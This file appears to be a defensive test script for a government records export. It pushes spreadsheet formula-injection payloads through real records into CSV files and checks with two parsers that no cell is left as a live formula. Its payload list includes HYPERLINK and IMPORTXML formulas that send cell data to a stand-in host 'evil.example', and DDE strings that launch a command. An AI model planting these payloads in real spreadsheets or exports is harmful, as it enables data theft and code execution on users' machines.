"""Payloads that spreadsheets take for formulas, through real records into the CSV of an export, and read back by two readers.

`python -m tests.formulas [PAYLOADS] [SEED]` (threats J7). In the tests the same runs with fewer.
"""

import asyncio
import csv
import gzip
import io
import sys
from collections.abc import Callable, Iterator
from functools import cache
from random import Random
from typing import Any, NamedTuple

import openpyxl  # type: ignore[import-untyped]
import orjson
from aiocsv import AsyncReader

from chalicelib.domain.csv_cells import original
from chalicelib.store.export_drafts import ScratchDesk
from chalicelib.usecases.exports import write_exports
from tests.fakes.table_mirror import TableMirror
from tests.world import World

STARTERS = "=+-@|%＝＋－＠"
BLANKS = " \u3000\u00a0\t\n\u200b\ufeff"
KNOWN = (
    '=HYPERLINK("http://evil.example/?x="&A1,"点击")',
    "=cmd|'/C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=IMPORTXML(CONCAT("http://evil.example/?v=", A1:E1), "//a")',
    "\t=1+1",
    "\n=1+1",
    '"=1+1',
    '",=1+1,"',
    "'=1+1",
    "''=1+1",
    "' =1+1",
    "'",
    "＝1+1",
    "＠SUM(1)",
    "%0A=1",
    "a\n=1+1",
    'a","=1+1',
    "-", "+86 21", "=", "@",
)  # fmt: skip
REVIEW = {"reviewer": "office", "result": "cleared"}
Act = tuple[str, str, dict[str, Any], str]


class Cell(NamedTuple):
    """A payload, and where the CSV must have it."""

    collection: str
    record_id: str
    column: str
    text: str


class Found(NamedTuple):
    """What came of it."""

    payloads: int
    cells: int
    """Cells of the whole export that both readers read."""
    formulas: int
    differences: int


def payloads(chance: Random) -> Iterator[str]:
    """Yield texts that begin, or nearly begin, with what a spreadsheet could take for a formula."""
    alphabet = STARTERS + "aA1(),;'\"!\\中 \n\t"
    yield from KNOWN
    while True:
        head = "".join(chance.choices(BLANKS + "'\"", k=chance.randrange(3))) + chance.choice(["", *STARTERS])
        text = head + "".join(chance.choices(alphabet, k=chance.randrange(20)))
        if text.strip():
            yield text


def _texts(record: Callable[[str, str], str], **places: str) -> dict[str, Any]:
    """Return members of content that hold a payload in both languages; `name=column`."""
    return {name: {lang: record(f"{column}_{lang}", lang) for lang in ("zh", "en")} for name, column in places.items()}


def _service(record: Callable[[str, str], str]) -> dict[str, Any]:
    return {
        **_texts(record, title="title", quota="quota"),
        "result": _texts(record, name="result_name", validity="result_validity"),
        "responsible": _texts(record, post="responsible_post"),
        "agency": "bureau",
        "service_kind": "other_power",
    }


def _disclosure(record: Callable[[str, str], str]) -> dict[str, Any]:
    texts = _texts(record, title="title", summary="summary", body="body", issuer="issuer")
    return {**texts, "agency": "bureau", "category": "plans"}


def _rule(record: Callable[[str, str], str]) -> dict[str, Any]:
    content = {"agency": "bureau", "rule_kind": "internal_rule", "area": "fees", "in_force_on": "2026-07-01"}
    return {**_texts(record, title="title", body="body"), **content}


def fill(world: World, count: int, chance: Random) -> list[Cell]:
    """Publish records whose texts are payloads, and return each payload with its place."""
    texts, cells = payloads(chance), list[Cell]()
    number = 0
    while len(cells) < count:
        number += 1
        collection, content = (("services", _service), ("disclosures", _disclosure), ("rules", _rule))[number % 3]
        record_id = f"r{number}"

        def record(column: str, lang: str, where: tuple[str, str] = (collection, record_id)) -> str:
            cells.append(Cell(*where, column, next(texts)))
            return cells[-1].text

        body = content(record)
        if collection == "disclosures":
            receipt = world.act(collection, record_id, 1, {"act": "submit", "content": body})
            world.approve(record_id, 2, receipt["sha256"])
            world.act(collection, record_id, 3, {"act": "publish"})
        else:
            world.act(collection, record_id, 1, {"act": "publish", "content": body}, "bureau-clerk")
    world.log()
    return cells


def first_reader(text: str) -> list[list[str]]:
    """Read with the standard library."""
    return list(csv.reader(io.StringIO(text, newline=""), strict=True))


def second_reader(text: str) -> list[list[str]]:
    """Read with aiocsv, whose parser is its own."""

    class Source:
        def __init__(self) -> None:
            self._text = io.StringIO(text, newline="")

        async def read(self, size: int) -> str:
            return self._text.read(size)

    async def rows() -> list[list[str]]:
        return [row async for row in AsyncReader(Source(), strict=True)]

    return asyncio.run(rows())


def is_formula(cell: str) -> bool:
    """Tell whether a spreadsheet could take a cell for a formula: by what it begins with, and by what openpyxl says."""
    sheet = _sheet()
    sheet["A1"] = cell
    return cell.lstrip(BLANKS + "\r").startswith(tuple(STARTERS)) or sheet["A1"].data_type == "f"


@cache
def _sheet() -> Any:
    return openpyxl.Workbook().active


def check(world: World, wanted: list[Cell]) -> Found:
    """Export, read every CSV with both readers, and hold every cell to what it must be."""
    write_exports(TableMirror(world), ScratchDesk(), world.wired.exports, world.now, "Asia/Shanghai")
    manifest = world.wired.exports.newest()
    assert manifest is not None
    seen: dict[tuple[str, str, str], str] = {}
    cells = formulas = differences = 0
    for file in (each for each in manifest.files if each.format == "csv"):
        text = gzip.decompress(world.objects.objects[file.path]).decode("utf-8-sig" if file.bom else "utf-8")
        rows = first_reader(text)
        differences += rows != second_reader(text)
        cells += sum(map(len, rows))
        formulas += sum(map(is_formula, {cell for row in rows for cell in row if not _is_number(cell)}))
        key = rows[0].index("index" if file.collection == "changes" else "id")
        seen |= {(str(file.collection), row[key], name): cell for row in rows[1:] for name, cell in zip(rows[0], row, strict=True)}  # fmt: skip
    for collection, record_id, column, text in wanted:
        differences += original(seen[collection, record_id, column]) != text
        body = orjson.loads(world.get(f"/v1/{collection}/{record_id}").body)
        differences += column == "title_zh" and body["title"]["zh"] != text  # JSON stays as it was sent
    return Found(len(wanted), cells, formulas, differences)


def _is_number(cell: str) -> bool:
    return cell.removeprefix("-").replace(".", "", 1).isdecimal()


def main() -> int:
    """Send the payloads through, and print what came of them."""
    count, seed = (int(each) for each in [*sys.argv[1:], *("5000", "20261127")[len(sys.argv) - 1 :]])
    world = World().init()
    found = check(world, fill(world, count, Random(seed)))
    print(
        f"{found.payloads} payloads through records into CSV (seed {seed}); {found.cells} cells read by csv and aiocsv: "
        f"{found.formulas} formulas; {found.differences} payloads or rows that were not found again as they were sent"
    )
    return 0 if (found.formulas, found.differences) == (0, 0) else 1


if __name__ == "__main__":
    sys.exit(main())
